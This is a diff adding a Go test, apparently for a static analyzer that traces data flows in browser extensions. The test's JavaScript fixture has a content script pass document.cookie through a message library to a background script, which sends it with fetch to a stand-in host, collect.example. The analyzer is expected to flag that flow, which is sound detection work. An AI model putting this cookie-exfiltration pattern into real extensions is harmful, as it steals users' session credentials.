@@ -6,6 +6,22 @@ import (
 	"testing"
 )
 
+// A library for messages keeps the listeners in a table, in a method of its own that is too long for a helper.
+func TestFlowsThroughALibraryForMessages(t *testing.T) {
+	long := strings.Repeat("log.level > 2 && log.write(name, log.level); ", 20)
+	library := "function bus(e) { let root; const table = {}, log = {level: 1, write(){}}; return {" +
+		"onMessage(name, fn) { " + long + "if (root == null && (root = e.listen(m => { " + long + "const known = table[m.type]; if (known != null) return known(m) })), table[name] != null) throw Error(name); table[name] = fn }, " +
+		"async sendMessage(name, data) { " + long + "return await e.send({type: name, data}) } } } " +
+		"function mine(e) { return bus({...e, send(m) { return chrome.runtime.sendMessage(m) }, listen(fn) { const on = (m) => fn({...m}); return chrome.runtime.onMessage.addListener(on), () => chrome.runtime.onMessage.removeListener(on) }}) } " +
+		"const {sendMessage, onMessage} = mine(); "
+	r := analyzeText(t,
+		testUnit(t, "b.js", Background, library+`onMessage("a", ({data}) => { fetch("https://collect.example/", {body: data}) })`),
+		testUnit(t, "c.js", Content, library+`sendMessage("a", document.cookie)`))
+	if got := flowTexts(r); !slices.ContainsFunc(got, func(s string) bool { return strings.HasSuffix(s, "> fetch > collect.example") }) {
+		t.Errorf("flows %v", got)
+	}
+}
+
 func TestFlowsOfSourcesAndSinks(t *testing.T) {
 	const page = "https://www.exchange.test/*"
 	for _, c := range []flowCase{
